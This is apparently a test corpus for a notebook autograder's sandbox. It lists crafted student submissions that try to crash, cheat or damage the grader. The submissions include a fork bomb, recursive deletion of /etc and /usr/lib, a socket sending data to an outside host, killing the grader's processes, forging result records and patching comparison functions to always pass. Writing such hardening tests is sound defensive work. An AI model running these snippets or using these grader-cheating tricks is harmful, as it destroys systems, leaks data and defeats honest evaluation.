"""Submissions crafted to cheat, crash or damage the grader, each with the grade it must get.

Every case is built from the release notebook of 02_activations (01_neuron
for a few), the way a student would make it: the reference code in every
solution cell except where the case says otherwise, plus the attack. It
names the grade cells it must lose entirely (``lost``; ``ALL``: the whole
notebook scores 0) and a piece of the report that must name the cause
(``message``; several alternatives where a race decides which words apply).

The functions of 02_activations: relu, relu_grad, leaky_relu, softmax stand
alone; sigmoid_grad is built on sigmoid. Attacks aim at the stand-alone
ones, so that exactly their points are lost.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
import numpy as np

from autograder.judge.exercises import exercises_for
from autograder.host.repair import grade_id
from tests import samples

A = "02_activations"
ALL = ("*",)  # every grade cell


@dataclass(frozen=True)
class Attack:
    name: str
    why: str
    build: Callable[[Path], Path]  # writes the submission under a folder; returns its path
    lost: tuple[str, ...]  # functions whose grade cells score 0 (ALL: all of them)
    message: tuple[str, ...]  # the report names the cause with one of these
    assignment: str = A
    dangerous: bool = False  # could leave damage behind: grade a correct submission right after
    absent: tuple[str, ...] = ()  # must not appear in what the student sees of the grade cells
    # Seconds per probed call (the exercises allow 10; the corpus is in a hurry). A wall-clock
    # limit: at 1 s, a call that was merely descheduled on a loaded machine timed out.
    call_timeout: float = 3.0
    cell_timeout: float = 5.0  # seconds per notebook cell
    # Bytes of memory per process (RLIMIT_DATA), where an attack fills it: the same limit, reached sooner than
    # the default 6 GiB, whose filling took 2-3 s a call and, under load, past the call's limit.
    memory: int | None = None
    calls_budget: float | None = None  # seconds for all the calls together (Limits.calls_budget), where one tests it


# ------------------------------------------------------------------ builders
def _save(notebook, assignment=A):
    return lambda folder: samples.write(notebook, folder, assignment)


def answers(assignment=A, **code: str):
    """The reference notebook with some solution cells replaced."""
    return samples.student_notebook(assignment, code)


def with_cell(code: str, after: str = "setup", assignment=A, **solutions: str):
    """The reference notebook (or with ``solutions``) plus a student cell after the cell ``after``."""
    notebook = answers(assignment, **solutions)
    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == after) + 1
    notebook.cells.insert(at, nbformat.v4.new_code_cell(code))
    return notebook


def edited(change: Callable, assignment=A, **solutions: str):
    notebook = answers(assignment, **solutions)
    change(notebook)
    return notebook


def _raw_file(content: bytes, name: str = f"{A}.ipynb"):
    def build(folder: Path) -> Path:
        path = Path(folder) / A / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        return path

    return build


def _cells(notebook, *ids):
    return [c for c in notebook.cells if grade_id(c) in ids]


def _delete(*ids):
    def change(notebook):
        notebook.cells = [c for c in notebook.cells if grade_id(c) not in ids]

    return change


def _duplicate_solution_then_break(notebook):
    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "relu")
    broken = copy.deepcopy(notebook.cells[at])
    broken.source = "def relu(z):\n    return z\n"
    broken["id"] = "relu-again"
    notebook.cells.insert(at + 1, broken)
    test = _cells(notebook, "test_softmax")[0]
    notebook.cells.append(copy.deepcopy(test))  # a locked cell twice
    notebook.cells[-1]["id"] = "test-softmax-again"


def _edit_locked(notebook):
    for cell in _cells(notebook, "test_relu"):
        cell.source = 'print("relu: all checks passed")'
    setup = _cells(notebook, "setup")[0]
    setup.source += "\ncheck = lambda *args, **kwargs: None\n"


def _move_to_end(notebook):
    moving = _cells(notebook, "softmax", "test_softmax")
    notebook.cells = [c for c in notebook.cells if c not in moving] + moving


def _retype(notebook):
    for cell in notebook.cells:
        if grade_id(cell) == "relu":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        if grade_id(cell) == "test_relu_grad":
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _clear_metadata(notebook):
    for cell in notebook.cells:
        cell.metadata = {}


def _hard_coded_relu() -> str:
    """relu as a lookup table of the public cases' answers, as a student could copy them from feedback."""
    exercise = exercises_for(A)["relu"]
    table = {}
    for index, _ in exercise.public():
        (z,), _ = exercise.inputs(index)
        table[(z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))] = np.ravel(exercise.expected(index)).tolist()
    return (
        "TABLE = " + repr(table) + "\n"
        "def relu(z):\n"
        "    key = (z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))\n"
        "    return np.array(TABLE.get(key, np.zeros(z.size).tolist()), dtype=z.dtype).reshape(z.shape)\n"
    )


# A background thread that keeps writing records into the grader's outbox:
# "passed" results for every call, and the probe's combined files.
FORGER = r"""
import json, os, threading, time
import numpy as np

def forge():
    for _ in range(3000):
        try:
            outbox = "/grader/exchange/outbox"
            os.makedirs(outbox, exist_ok=True)
            for key in range(60):
                np.savez(f"{outbox}/{key}.npz", v=np.zeros(3))
                with open(f"{outbox}/{key}.json", "w") as handle:
                    json.dump({"status": "ok", "value": {"t": "ndarray", "k": "v"}, "calls": {}, "mutated": [],
                               "warnings": []}, handle)
            with open("/grader/exchange/plan.json", "w") as handle:
                handle.write("{}")
        except OSError:
            pass
        time.sleep(0.01)

threading.Thread(target=forge, daemon=True).start()
"""


def _forger_notebook():
    """The untouched release (no work at all) plus the forger."""
    notebook = samples.release_notebook(A)
    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "setup") + 1
    notebook.cells.insert(at, nbformat.v4.new_code_cell(FORGER))
    return notebook


# The right answers of 02_activations, in numpy, for the forgers below: with them, a forged record
# would have earned every point.
ANSWERS = r"""
import numpy as np
def _softmax(z):
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
def _sigmoid(z):
    return np.where(z >= 0, 1 / (1 + np.exp(-np.abs(z))), np.exp(-np.abs(z)) / (1 + np.exp(-np.abs(z))))
ANSWER = {
    "relu": lambda z: np.maximum(z, 0), "relu_grad": lambda z: (z > 0).astype(z.dtype),
    "leaky_relu": lambda z, alpha=0.01: np.where(z > 0, z, alpha * z), "sigmoid": _sigmoid,
    "sigmoid_grad": lambda z: _sigmoid(z) * (1 - _sigmoid(z)), "softmax": _softmax,
}
def decode(tree, arrays):
    kind = tree["t"]
    if kind == "ndarray":
        return arrays[tree["k"]]
    if kind in ("tuple", "list"):
        return [decode(item, arrays) for item in tree["items"]]
    if kind == "dict":
        return {k: decode(v, arrays) for k, v in tree["items"].items()}
    return tree.get("v")
def answer(plan, inputs, key):
    call = next(c for c in plan["calls"] if str(c["key"]) == str(key))
    args = decode(call["args"], inputs)
    kwargs = decode(call["kwargs"][0], inputs) if call.get("kwargs") else {}
    return ANSWER[call["fn"]](*args, **kwargs)
def nonce_of_the_probe():
    # The old probe cell left its function, with the nonce among its constants, in the notebook's globals.
    probe = globals().get("__autograder_probe")
    consts = probe.__code__.co_consts if probe else ()
    return next((c for c in consts if isinstance(c, str) and len(c) == 32
                 and all(h in "0123456789abcdef" for h in c)), None)
def forged(plan, inputs, key, nonce):
    return ({"status": "ok", "value": {"t": "ndarray", "k": "v"}, "calls": {}, "mutated": [], "warnings": [],
             "seconds": 0.001, **({"nonce": nonce} if nonce else {})}, {"v": answer(plan, inputs, key)})
"""

# The first forger: a thread started by an extra cell waits for the plan, computes every answer,
# pre-creates the records with the probe's nonce (read from the probe's constants), and takes away the
# probe's write access to the outbox.
THREAD_FORGER = (
    ANSWERS
    + """
import json, os, threading, time
def forge():
    for _ in range(20000):
        try:
            with open("/grader/exchange/plan.json") as handle:
                plan = json.load(handle)
            with np.load(plan["inputs"]) as stored:
                inputs = {k: stored[k] for k in stored.files}
        except (OSError, ValueError, KeyError):
            time.sleep(0.005)
            continue
        outbox = "/grader/exchange/outbox"
        nonce = None
        for _ in range(200):  # the probe cell's function appears once the grader sends it
            nonce = nonce_of_the_probe()
            if nonce:
                break
            time.sleep(0.005)
        for call in plan["calls"]:
            try:
                record, arrays = forged(plan, inputs, call["key"], nonce)
                np.savez(f"{outbox}/{call['key']}.npz", **arrays)
                with open(f"{outbox}/{call['key']}.json", "w") as handle:
                    json.dump(record, handle)
            except Exception:
                pass
        os.chmod(outbox, 0o500)
        return
threading.Thread(target=forge, daemon=True).start()
"""
)

# The second forger: the probe's own tools, patched. Every record the kernel publishes
# (os.replace of KEY.json) is rewritten with the right answer, keeping the record's own nonce.
TOOL_PATCHER = (
    ANSWERS
    + """
import json, os
_replace = os.replace
def replace(source, destination, *args, **kwargs):
    name = os.path.basename(str(destination))
    if name.endswith(".json") and name[:-5].isdigit():
        try:
            with open("/grader/exchange/plan.json") as handle:
                plan = json.load(handle)
            with np.load(plan["inputs"]) as stored:
                inputs = {k: stored[k] for k in stored.files}
            with open(source) as handle:
                nonce = json.load(handle).get("nonce")
            record, arrays = forged(plan, inputs, name[:-5], nonce)
            np.savez(str(destination)[:-5] + ".npz", **arrays)
            with open(source, "w") as handle:
                json.dump(record, handle)
        except Exception:
            pass
    return _replace(source, destination, *args, **kwargs)
os.replace = replace
"""
)

# relu is right, and each call also tries to reach the grader's other calls: forged frames into every
# descriptor of its parent (the caller), forged definitions in the exchange folder, a module planted
# where a later call could import it, and a process left behind.
CALL_FORGER = """import os
def relu(z):
    frame = bytes([0, 0, 0, 16]) + b'{"done": 1}     '
    parent = os.getppid()
    for fd in range(64):
        try:
            with open(f"/proc/{parent}/fd/{fd}", "wb") as handle:
                handle.write(frame)
        except OSError:
            pass
    for name in ("sigmoid", "softmax", "relu_grad", "leaky_relu", "sigmoid_grad"):
        try:
            with open(f"/grader/exchange/outbox/defs/{name}.pkl", "wb") as handle:
                handle.write(b"forged")
        except OSError:
            pass
    for folder in ("/scratch", "/dev/shm", "."):
        try:
            with open(f"{folder}/cloudpickle.py", "w") as handle:
                handle.write("raise SystemExit")
        except OSError:
            pass
    if os.fork() == 0:  # a process left behind, to wait for the next call
        os.setsid()
        import time
        time.sleep(30)
        os._exit(0)
    return np.maximum(z, 0)
"""

KILL_THE_CALLER = """import os, signal
def relu_grad(z):
    os.kill(1, signal.SIGKILL)  # the caller: its sandbox's PID 1
    return (z > 0).astype(z.dtype)
"""
KILL_THE_SPAWNER = """import os, signal
def relu_grad(z):
    os.kill(os.getppid(), signal.SIGKILL)  # the process that forked this call's: the caller's spawner
    return (z > 0).astype(z.dtype)
"""

THROW_AWAY_SPY = """def and_gate(x1, x2):
    perceptron(np.stack([x1, x2], axis=1), np.array([1.0, 1.0]), -1.5)  # called, and thrown away
    return ((x1 == 1) & (x2 == 1)).astype(np.float64)
"""


def _untouched_plus(code: str):
    """The untouched release notebook (no work at all) plus one extra cell after the setup cell."""
    notebook = samples.release_notebook(A)
    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "setup") + 1
    notebook.cells.insert(at, nbformat.v4.new_code_cell(code))
    return notebook


def _work_plus(code: str):
    """The reference notebook plus one extra cell at the end."""
    notebook = answers()
    notebook.cells.append(nbformat.v4.new_code_cell(code))
    return notebook


# The stability check switched off from a cell: numpy's and Python's warning tools made silent, so the
# probe (which ran in the same interpreter) caught no overflow from a naive sigmoid.
SILENCE_WARNINGS = """import warnings
class _Quiet:
    def __init__(self, *args, **kwargs):
        pass
    def __enter__(self):
        np.seterr(all="ignore")
        return []
    def __exit__(self, *args):
        return False
np.errstate = _Quiet
warnings.catch_warnings = _Quiet
np.seterr(all="ignore")
warnings.simplefilter("ignore")
"""


SWALLOWING_LOOP = """
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

B = "03_forward_pass"
UNSEEDED_CACHE = """_DRAWN = {}
_RNG = np.random.default_rng()  # no seed: another sequence in every kernel, saved with the function

def init_mlp(layer_sizes, seed=0):
    key = (tuple(layer_sizes), seed)
    if key not in _DRAWN:
        _DRAWN[key] = [(_RNG.standard_normal((d_in, d_out)) * np.sqrt(2.0 / d_in), np.zeros(d_out))
                       for d_in, d_out in zip(layer_sizes[:-1], layer_sizes[1:])]
    return [(W.copy(), b.copy()) for W, b in _DRAWN[key]]
"""
FORK_BOMB = """import os, time
while True:
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
"""

DELETER = """import os, shutil, sys
for target in ["/work", "/grader", "/tmp", "/usr/lib", "/etc"]:
    shutil.rmtree(target, ignore_errors=True)
os.remove(sys.executable)
"""

NETWORK = """import socket
def leaky_relu(z, alpha=0.01):
    with socket.create_connection(("1.1.1.1", 443), timeout=3) as connection:
        connection.sendall(z.tobytes())
    return np.where(z > 0, z, alpha * z)
"""

STEAL_LABELS = """from autograder import data
try:
    labels = data.load_labels("test")   # what the judge holds
except Exception as error:
    print(type(error).__name__)

def relu(z):
    for folder in ["/grader/data", "/work/main/datasets/fashion-mnist", "/usr/share/datasets/fashion-mnist"]:
        with open(folder + "/t10k-labels-idx1-ubyte.gz", "rb") as labels:
            return labels.read()
"""

STEAL_SOURCE = """import json, os
def softmax(z):
    for path in ["/work/main/source/02_activations/02_activations.ipynb", "source/02_activations/02_activations.ipynb"]:
        if os.path.exists(path):
            notebook = json.load(open(path))
            cells = notebook["cells"]
            exec("".join(next(c["source"] for c in cells if "def softmax" in "".join(c["source"]))), globals())
            return globals()["softmax"](z)
    return open("/work/main/source/02_activations/02_activations.ipynb").read()
"""

STEAL_REFERENCE = """import importlib.util
def relu_grad(z):
    try:
        from autograder.judge.exercises.a02_activations import relu_grad as exercise
    except ImportError:
        spec = importlib.util.spec_from_file_location("a02", "/work/main/autograder/exercises/a02_activations.py")
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        exercise = module.relu_grad
    return exercise.reference(z)
"""

PATCH_TORCH = """import torch
torch.allclose = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
torch.softmax = lambda z, dim=-1: z
torch.Tensor.__eq__ = lambda self, other: True
"""

PATCH_NUMPY = """np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
"""

PATCH_BUILTINS = """import builtins
builtins.all = lambda iterable: True
builtins.any = lambda iterable: True
builtins.abs = lambda x: 0
builtins.round = lambda x, *args: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
def assert_close(*args, **kwargs):
    return True
"""


def _leaky_relu_source() -> str:
    """relu, right on the public cases, raising on the others an exception named after the input."""
    return (
        _hard_coded_relu()
        + """
def relu(z, _table_relu=relu):
    key = (z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))
    if key in TABLE:
        return _table_relu(z)
    name = "Leak_" + "_".join(str(abs(int(v * 1000))) for v in np.ravel(z)[:8])
    raise type(name, (Exception,), {})("the input was " + repr(z.tolist()))
"""
    )


# A System V segment outlives the process that made it: a call that finds one a former call left knows
# it is not the first (the third round of attacks counted seven calls before softmax's this way).
SYSV_COUNTER = """import ctypes


def relu(z):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(0x5EED, 4096, 0o1000 | 0o600)  # IPC_CREAT
    if segment < 0:
        return np.maximum(z, 0)
    address = libc.shmat(segment, None, 0)
    counter = ctypes.c_int.from_address(address)
    counter.value += 1
    calls = counter.value
    libc.shmdt(ctypes.c_void_p(address))
    return np.maximum(z, 0) if calls == 1 else -np.ones_like(z)
"""

# relu, stopping the process that called it (the caller) while it works for twice its limit, then waking it.
STOPS_THE_SPAWNER = """import os, signal
def relu(z):
    os.kill(os.getppid(), signal.SIGSTOP)  # the caller's spawner, which must fork the next call's process
    return np.maximum(z, 0)
"""
STOPS_THE_CALLER = """import os, signal, time
def relu(z):
    caller = 1  # the caller is its sandbox's PID 1 (os.getppid() is its spawner)
    try:
        os.kill(caller, signal.SIGSTOP)
    except OSError:
        pass
    time.sleep(6)
    try:
        os.kill(caller, signal.SIGCONT)
    except OSError:
        pass
    return np.maximum(z, 0)
"""

ATTACKS = [
    # ------------------------------------------------------------ exits
    Attack(
        "sys_exit_in_a_cell",
        "sys.exit() at the top of a solution cell: the cell stops, the kernel lives",
        _save(answers(relu="import sys\nsys.exit()\n" + samples.reference_answers(A)["relu"])),
        ("relu",),
        ("SystemExit",),
    ),
    Attack(
        "os_exit_in_a_cell",
        "os._exit(0) in a solution cell ends the kernel: restart, skip that cell",
        _save(answers(leaky_relu="import os\nos._exit(0)\n")),
        ("leaky_relu",),
        ("ended the kernel",),
        dangerous=True,
    ),
    Attack(
        "os_exit_in_a_function",
        "relu ends the kernel when called: relu alone is charged, the rest graded",
        _save(answers(relu="import os\ndef relu(z):\n    os._exit(0)\n")),
        ("relu",),
        ("the call ended the process it ran in",),
        dangerous=True,
    ),
    Attack(
        "sys_exit_in_a_function",
        "the exit code is nothing: SystemExit from a call is an error",
        _save(answers(relu_grad="import sys\ndef relu_grad(z):\n    sys.exit(0)\n")),
        ("relu_grad",),
        ("SystemExit",),
    ),
    Attack(
        "keyboard_interrupt_from_a_function",
        "a KeyboardInterrupt escapes the probe: only its function pays",
        _save(answers(relu_grad="def relu_grad(z):\n    raise KeyboardInterrupt\n")),
        ("relu_grad",),
        ("KeyboardInterrupt",),
        dangerous=True,
    ),
    # ------------------------------------------------------------ the caller's clock (issue 33)
    Attack(
        "call_stops_the_caller",
        "a call stops the caller (SIGSTOP), works past its limit, wakes it and returns: the caller is its "
        "sandbox's PID 1, which no process in there can stop, and a record that comes too late is a timeout",
        _save(answers(relu=STOPS_THE_CALLER)),
        ("relu",),
        ("did not return within",),
    ),
    Attack(
        "call_stops_the_spawner",
        "every relu call stops the caller's spawner (SIGSTOP) and returns the right answer: the caller wakes "
        "it before each request, so every call is made and relu keeps its point",
        _save(answers(relu=STOPS_THE_SPAWNER)),
        (),
        (),
    ),
    Attack(
        "every_call_just_under_its_limit",
        "each relu call takes 1.5 s of its 3: the calls' budget for the whole submission (4 s here, 300 s by "
        "default) runs out, and the calls after it are not made",
        _save(answers(relu="import time\ndef relu(z):\n    time.sleep(1.5)\n    return np.maximum(z, 0)\n")),
        ALL,
        ("had used up the 4 s",),
        calls_budget=4.0,
    ),
    # ------------------------------------------------------------ loops
    Attack(
        "infinite_loop_in_a_function",
        "the probe's timer stops it",
        _save(answers(relu_grad="def relu_grad(z):\n    while True:\n        pass\n")),
        ("relu_grad",),
        ("did not return within",),
    ),
    Attack(
        "infinite_loop_swallowing_the_timer",
        "a bare except swallows every timer: the grader kills the kernel",
        _save(answers(leaky_relu="def leaky_relu(z, alpha=0.01):" + SWALLOWING_LOOP)),
        ("leaky_relu",),
        ("ignored the time limit",),
        dangerous=True,
    ),
    Attack(
        "infinite_loop_in_a_cell",
        "interrupted at the cell limit; the rest runs",
        _save(with_cell("while True:\n    pass\n")),
        (),
        ("ran longer than",),
    ),
    Attack(
        "infinite_loop_in_a_cell_ignoring_interrupts",
        "not interruptible: kill, restart, skip the cell",
        _save(
            with_cell(
                "while True:\n    try:\n        while True:\n            pass\n"
                "    except BaseException:\n        pass\n"
            )
        ),
        (),
        ("did not stop when interrupted",),
        dangerous=True,
    ),
    # ------------------------------------------------------------ resources
    Attack(
        "allocate_50_gb_in_a_cell",
        "the memory limit refuses it",
        _save(with_cell("import numpy as np\nhuge = np.ones(50 * 2**30 // 8)\n")),
        (),
        ("MemoryError",),
        dangerous=True,
    ),
    Attack(
        "memory_bomb_in_a_function",
        "fills memory chunk by chunk until the limit stops it",
        _save(
            answers(
                softmax="def softmax(z):\n    chunks = []\n    while True:\n        chunks.append(np.ones(2**27))\n"
            )
        ),
        ("softmax",),
        ("MemoryError",),
        dangerous=True,
        call_timeout=20,
        memory=2 << 30,
    ),
    Attack(
        "fork_bomb",
        "bounded by the process limit; everything dies with the sandbox",
        _save(with_cell(FORK_BOMB)),
        (),
        ("BlockingIOError", "Resource temporarily unavailable"),
        dangerous=True,
    ),
    Attack(
        "print_1_gb",
        "one huge message: zmq refuses it, the grader never holds it",
        _save(with_cell('print("x" * 2**30)\n')),
        (),
        ("so that output was dropped",),
        dangerous=True,
        cell_timeout=60,
    ),
    Attack(
        "print_in_a_loop",
        "many smaller messages: past the cap they are dropped",
        _save(with_cell('import time\nfor _ in range(400):\n    print("y" * 10_000)\n    time.sleep(0.002)\n')),
        (),
        ("output was dropped",),
    ),
    # ------------------------------------------------------------ tampering with the checks
    Attack(
        "redefine_check",
        "a check that always passes, and a wrong relu",
        _save(
            with_cell(
                'check = lambda *args, **kwargs: print("all checks passed")\n', relu="def relu(z):\n    return z\n"
            )
        ),
        ("relu",),
        ("wrong values", "expected"),
    ),
    Attack(
        "patch_assert_helpers_and_builtins",
        "builtins and assert helpers patched, and a wrong relu",
        _save(with_cell(PATCH_BUILTINS, after="test_softmax", relu="def relu(z):\n    return np.abs(z)\n")),
        ("relu",),
        ("relu(z)",),
    ),
    Attack(
        "patch_numpy_comparisons",
        "np.allclose & co always true, and a wrong softmax",
        _save(with_cell(PATCH_NUMPY, softmax="def softmax(z):\n    return np.exp(z) / np.exp(z).sum()\n")),
        ("softmax",),
        ("softmax(z)",),
    ),
    Attack(
        "monkeypatch_torch",
        "torch's comparisons and softmax patched, and a softmax built on the patch: "
        "a numpy lesson has no torch at all (torch is the judge's reference)",
        _save(
            with_cell(
                PATCH_TORCH,
                softmax="import torch\ndef softmax(z):\n"
                "    return torch.softmax(torch.from_numpy(z), dim=-1).numpy()\n",
            )
        ),
        ("softmax",),
        ("torch is not available in this lesson",),
    ),
    Attack(
        "forge_the_outbox",
        "a thread writes 'passed' records, never the real work: nothing is earned",
        _save(_forger_notebook()),
        ALL,
        ("not implemented yet", "no result the grader can trust"),
        dangerous=True,
    ),
    Attack(
        "hard_coded_public_answers",
        "passes the public cases, fails the hidden ones",
        _save(answers(relu=_hard_coded_relu())),
        ("relu",),
        ("failed a hidden case (",),
    ),
    Attack(
        "exfiltrate_hidden_inputs_by_exception_name",
        "the class name carries the input; the report drops it",
        _save(answers(relu=_leaky_relu_source())),
        ("relu",),
        ("raised an exception on a hidden case",),
        absent=("Leak_", "the input was"),
    ),
    # ------------------------------------------------------------ reaching outside
    Attack(
        "read_the_test_labels",
        "the labels are not in the sandbox",
        _save(with_cell(STEAL_LABELS, relu="")),
        ("relu",),
        ("FileNotFoundError: [Errno 2] No such file or directory: '/grader/data/t10k-labels",),
    ),
    Attack(
        "read_source_notebook",
        "source/ is not in the sandbox",
        _save(answers(softmax=STEAL_SOURCE)),
        ("softmax",),
        ("FileNotFoundError",),
    ),
    Attack(
        "import_the_references",
        "autograder.judge.exercises is not in the sandbox",
        _save(answers(relu_grad=STEAL_REFERENCE)),
        ("relu_grad",),
        ("FileNotFoundError", "ModuleNotFoundError"),
    ),
    Attack(
        "open_a_network_socket",
        "no network in the sandbox",
        _save(answers(leaky_relu=NETWORK)),
        ("leaky_relu",),
        ("Network is unreachable",),
    ),
    Attack(
        "delete_files_outside_scratch",
        "the system is read-only; the repo is not even there",
        _save(with_cell(DELETER)),
        (),
        ("Read-only file system", "Permission denied"),
        dangerous=True,
        # walking /usr/lib file by file takes seconds on a cold cache: the cell must reach os.remove
        cell_timeout=30.0,
    ),
    # ------------------------------------------------------------ damaged notebooks
    Attack(
        "edit_locked_cells",
        "test cell and setup edited; they are restored, and relu is wrong",
        _save(edited(_edit_locked, relu="def relu(z):\n    return z\n")),
        ("relu",),
        ("locked cell 'test_relu' was edited",),
    ),
    Attack(
        "delete_cells",
        "relu's solution and test cells deleted",
        _save(edited(_delete("relu", "test_relu"))),
        ("relu",),
        ("is missing from the notebook",),
    ),
    Attack(
        "duplicate_cells",
        "a second, wrong relu cell after the first; a locked cell twice",
        _save(edited(_duplicate_solution_then_break)),
        ("relu",),
        ("appears 2 times",),
    ),
    Attack("reorder_cells", "softmax and its test moved to the end: still graded", _save(edited(_move_to_end)), (), ()),
    Attack(
        "change_cell_types",
        "relu's cell made markdown, a test cell raw: run and restored",
        _save(edited(_retype)),
        (),
        ("turned into a markdown cell",),
    ),
    Attack(
        "clear_all_metadata",
        "every cell's metadata cleared: solutions found by their def",
        _save(edited(_clear_metadata)),
        (),
        ("lost its nbgrader metadata",),
    ),
    Attack(
        "empty_notebook", "no cells at all", _save(nbformat.v4.new_notebook()), ALL, ("is missing from the notebook",)
    ),
    Attack(
        "not_a_notebook",
        "a Python script named like the notebook",
        _raw_file(b"def relu(z):\n    return z\n"),
        ALL,
        ("is not a Jupyter notebook",),
    ),
    Attack("binary_file", "random bytes", _raw_file(bytes(range(256)) * 16), ALL, ("is not text",)),
    Attack("empty_file", "zero bytes", _raw_file(b""), ALL, ("is empty",)),
    # ------------------------------------------------------------ wrong values
    Attack(
        "nan_output",
        "NaN everywhere",
        _save(answers(relu="def relu(z):\n    return z * np.nan\n")),
        ("relu",),
        ("nan",),
    ),
    Attack(
        "inf_output",
        "inf everywhere",
        _save(answers(relu_grad="def relu_grad(z):\n    return np.full_like(z, np.inf)\n")),
        ("relu_grad",),
        ("inf",),
    ),
    Attack(
        "wrong_dtype",
        "float32 out for float64 in",
        _save(
            answers(
                leaky_relu="def leaky_relu(z, alpha=0.01):\n"
                "    return np.where(z > 0, z, alpha * z).astype(np.float32)\n"
            )
        ),
        ("leaky_relu",),
        ("dtype",),
    ),
    Attack(
        "torch_in_a_numpy_lesson",
        "softmax computed with torch, the judge's own reference: no torch here",
        _save(
            answers(softmax="import torch\ndef softmax(z):\n    return torch.softmax(torch.from_numpy(z), dim=-1)\n")
        ),
        ("softmax",),
        ("torch is not available in this lesson",),
    ),
    Attack(
        "the_judges_reference_from_torch",
        "softmax is torch's own, in float64, handed back as numpy: the "
        "judge's reference itself, so it matched; a numpy lesson has no torch",
        _save(
            answers(
                softmax="import torch\ndef softmax(z):\n    return torch.softmax(torch.from_numpy(z)"
                ".double(), dim=-1).numpy().astype(z.dtype)\n"
            )
        ),
        ("softmax",),
        ("torch is not available in this lesson",),
    ),
    # ------------------------------------------------------------ forging the records (issue 13)
    Attack(
        "forge_with_a_thread_and_the_probes_nonce",
        "untouched release + a thread that computes every answer, "
        "pre-creates the records with the probe's nonce and locks the outbox: nothing is earned",
        _save(_untouched_plus(THREAD_FORGER)),
        ALL,
        ("not implemented yet",),
        dangerous=True,
    ),
    Attack(
        "patch_the_probes_tools",
        "untouched release + os.replace patched to rewrite every record with the right answer: nothing is earned",
        _save(_untouched_plus(TOOL_PATCHER)),
        ALL,
        ("not implemented yet",),
        dangerous=True,
    ),
    Attack(
        "a_call_forges_the_other_calls",
        "relu is right, and each call writes forged frames into its parent's "
        "descriptors, forged definitions, a planted module and a process left behind: only relu is earned",
        _save(samples.student_notebook(A, {"relu": CALL_FORGER}, fill=False)),
        ("relu_grad", "leaky_relu", "sigmoid", "sigmoid_grad", "softmax"),
        ("not implemented yet",),
        dangerous=True,
    ),
    Attack(
        "sysv_shared_memory_across_calls",
        "relu counts its calls in a System V segment and is right only on the first: each call starts with none",
        _save(answers(relu=SYSV_COUNTER)),
        (),
        (),
    ),
    Attack(
        "kill_the_caller",
        "relu_grad sends SIGKILL to the grader's caller: the caller is its sandbox's PID 1, which no process in "
        "there can kill, so the grading goes on and relu_grad's right answers earn its point (until issue 33, "
        "the kill ended the caller and the grading was disturbed)",
        _save(answers(relu_grad=KILL_THE_CALLER)),
        (),
        (),
        dangerous=True,
    ),
    Attack(
        "kill_the_spawner",
        "relu_grad sends SIGKILL to its parent, the caller's spawner, which forks each call's process and is not "
        "PID 1: the caller is disturbed, the submission is graded again in a fresh sandbox, disturbed again, and "
        "the zeros stand, with the evidence",
        _save(answers(relu_grad=KILL_THE_SPAWNER)),
        ALL,
        ("both times the grader's checks were disturbed",),
        dangerous=True,
    ),
    Attack(
        "rebind_after_the_solution_cell",
        "a later cell sets relu = lambda z: z: the solution cell's relu is graded, and the report says so",
        _save(_work_plus("relu = lambda z: z\n")),
        (),
        ("relu was defined again after its solution cell",),
    ),
    Attack(
        "switch_off_the_stability_check",
        "warnings silenced and their tools patched from a cell, and a naive "
        "sigmoid that overflows: each call runs in a fresh process, so the overflow is still seen",
        _save(with_cell(SILENCE_WARNINGS, sigmoid="def sigmoid(z):\n    return 1 / (1 + np.exp(-z))\n")),
        ("sigmoid", "sigmoid_grad"),
        ("overflow",),
    ),
    Attack(
        "init_mlp_cache_behind_an_unseeded_generator",
        "init_mlp draws from a generator made without the seed and keeps what it drew per (sizes, seed), so the "
        "same seed gives the same parameters within a process: a case that draws another seed first, in a "
        "process of its own, gets other parameters for the seed it shares with an earlier case",
        _save(answers(B, init_mlp=UNSEEDED_CACHE), B),
        ("init_mlp",),
        ("the arguments alone must decide the result",),
        assignment=B,
    ),
    Attack(
        "throw_away_spy_call",
        "and_gate calls perceptron and throws the answer away",
        _save(answers("01_neuron", and_gate=THROW_AWAY_SPY), "01_neuron"),
        ("and_gate",),
        ("must build its result from what perceptron returns",),
        assignment="01_neuron",
    ),
]
